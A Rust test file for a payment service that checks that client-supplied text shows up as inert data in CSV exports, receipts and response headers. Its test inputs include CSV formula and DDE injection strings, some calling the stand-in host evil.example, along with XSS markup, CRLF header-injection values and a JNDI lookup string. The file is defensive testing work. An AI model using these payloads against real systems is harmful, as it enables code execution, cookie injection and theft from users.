//! What a client writes comes back as data, wherever it is shown: no formula, no markup, no further line of the log.

use axum::body::Body;
use hyper::Request;
use serde_json::{Value, json};

use super::support::{SETTLEMENTS, Service, service};

/// What somebody might try, each in a text that is not refused for its length.
const ATTEMPTS: [&str; 14] = [
    "=HYPERLINK(\"http://evil.example\",\"pay\")",
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r\n=1+1",
    "a;=HYPERLINK(\"http://evil.example\");b",
    "a\t@SUM(1,1)",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "</textarea><img src=x onerror=alert(1)>",
    "\u{1b}]0;title\u{7}",
    "line\r\nSet-Cookie: a=b",
    "${jndi:ldap://evil.example/a}{{7*7}}%0d%0a%s",
];

/// A create with this text in one of its places; whether it was accepted.
async fn create(service: &Service, n: usize, place: &str, text: &str) -> Option<Value> {
    let mut body = json!({"amount": 1, "currency": "EUR", "to": "sim:ok", "reference": format!("i-{place}-{n}")});
    match place {
        "metadata" => body["metadata"] = json!({ "note": text }),
        "key" => body["metadata"] = json!({ text: "note" }),
        place => body[place] = json!(text),
    }
    let request = service.request("POST", SETTLEMENTS).header("content-type", "application/json").header("prefer", "wait=10");
    let answer = service.send(request.body(Body::from(body.to_string())).unwrap()).await;
    match answer.status.as_u16() {
        201 => Some(answer.json()),
        400..500 => None,
        other => panic!("{place} {text:?}: {other} {}", answer.text()),
    }
}

/// What a spreadsheet takes for cells where a semicolon or a tab separates them: a quotation mark within a cell is a character.
fn pieces(csv: &str) -> impl Iterator<Item = &str> {
    csv.split([';', '\t', '\r', '\n'])
}

/// The cells of a CSV document, with quotes resolved.
fn cells(csv: &str) -> Vec<String> {
    let (mut all, mut cell, mut is_quoted) = (Vec::new(), String::new(), false);
    let mut left = csv.chars().peekable();
    while let Some(c) = left.next() {
        match c {
            '"' if is_quoted && left.peek() == Some(&'"') => cell.extend(left.next()),
            '"' => is_quoted = !is_quoted,
            ',' | '\n' if !is_quoted => all.push(std::mem::take(&mut cell)),
            '\r' if !is_quoted => {}
            c => cell.push(c),
        }
    }
    all
}

#[tokio::test]
async fn what_a_payment_says_is_no_formula_and_no_markup() {
    let service = service().await;
    let mut accepted = Vec::new();
    for (n, text) in ATTEMPTS.iter().enumerate() {
        for place in ["description", "metadata", "key", "to", "user", "provider", "quote_id", "reference"] {
            if let Some(made) = create(&service, n, place, text).await {
                assert!(["description", "metadata", "key"].contains(&place), "{place} takes {text:?}");
                accepted.push((made["reference"].as_str().unwrap().to_owned(), *text));
            }
        }
    }
    assert!(accepted.len() >= 15, "{accepted:?}");
    let export = Request::get(format!("{SETTLEMENTS}/export")).header("accept", "text/csv");
    let export = export.header("authorization", format!("Bearer {}", service.token)).body(Body::empty()).unwrap();
    let export = service.send(export).await.expect(200);
    let rows = cells(export.text());
    assert!(rows.iter().any(|cell| cell.contains("HYPERLINK")), "{rows:?}");
    for cell in rows.iter().map(String::as_str).chain(pieces(export.text())) {
        let is_number = cell.parse::<f64>().is_ok();
        assert!(is_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} is a formula");
    }
    for (reference, text) in &accepted {
        service.until(reference, "completed").await;
        for kind in ["text/html", "text/plain", "image/svg+xml"] {
            let receipt = service.request("GET", &format!("{SETTLEMENTS}/{reference}/receipt")).header("accept", kind);
            let receipt = service.send(receipt.body(Body::empty()).unwrap()).await.expect(200);
            assert!(receipt.header("x-content-type-options") == Some("nosniff") || kind == "text/plain", "{kind}");
            let shown = receipt.text();
            assert!(!shown.contains('\u{1b}') && !shown.contains('\r'), "{kind} of {text:?}");
            for markup in ["<script", "<img", "' onmouseover='"] {
                assert!(kind == "text/plain" || !shown.contains(markup), "{kind} of {text:?} has {markup}");
            }
        }
    }
}

#[tokio::test]
async fn no_header_of_an_answer_has_a_line_of_a_caller() {
    let service = service().await;
    for path in ["/a%0d%0aSet-Cookie:%20a=b", "/docs/problems/a%0d%0ab", "/api/v1/gateway/settlements/a%0d%0aX:y", "/console%0d%0aX:y"] {
        let answer = service.get(path).await;
        let all: Vec<_> = answer.headers.iter().map(|(name, value)| format!("{name}: {value:?}")).collect();
        assert!(
            answer.status.is_client_error() && !answer.headers.contains_key("set-cookie") && !answer.headers.contains_key("x"),
            "{all:?}"
        );
    }
    // What a problem repeats, it repeats as JSON.
    let problem = service.get("/%3Cscript%3Ealert(1)%3C/script%3E").await.problem(404, "route_not_found");
    assert!(!problem.to_string().contains("<script>"), "{problem:#}");
    let page =
        service.exchange(Request::get("/docs/problems/%3Cscript%3E").header("accept", "text/html").body(Body::empty()).unwrap()).await;
    assert!(!page.text().contains("<script>"), "{}", page.text());
}
